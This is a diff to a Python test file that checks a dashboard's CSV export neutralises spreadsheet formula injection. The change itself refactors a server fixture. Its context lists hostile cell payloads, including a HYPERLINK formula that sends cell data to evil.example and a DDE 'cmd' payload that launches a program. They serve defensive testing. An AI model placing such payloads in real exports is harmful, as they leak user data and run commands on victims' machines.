@@ -26,7 +26,7 @@ from hypothesis import strategies as st
 from dashboard.api import batch_to_csv
 from pipelines.export import FORMULA_START, neutral, neutralise, to_csv_bytes
 
-from .conftest import running_server
+from .logged_server import logged_server
 
 HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1:A9)", "\tTAB=1",
            "\rCR=1", "=cmd|' /C calc'!A0", "-"]
@@ -157,11 +157,8 @@ def row_limit(hostile_warehouse):
 @pytest.fixture(scope="module")
 def hostile_server(hostile_warehouse, row_limit):
     path, _ = hostile_warehouse
-    with pytest.MonkeyPatch.context() as mp:
-        mp.setenv("SDG87_EXPORT_ROW_LIMIT", str(row_limit))
-        with running_server(path) as base:
-            mp.undo()
-            yield base
+    with logged_server(path, path.with_suffix(".log"), env={"SDG87_EXPORT_ROW_LIMIT": str(row_limit)}) as base:
+        yield base
 
 
 def test_streamed_csv_neutralises_hostile_cells(hostile_server, hostile_warehouse):
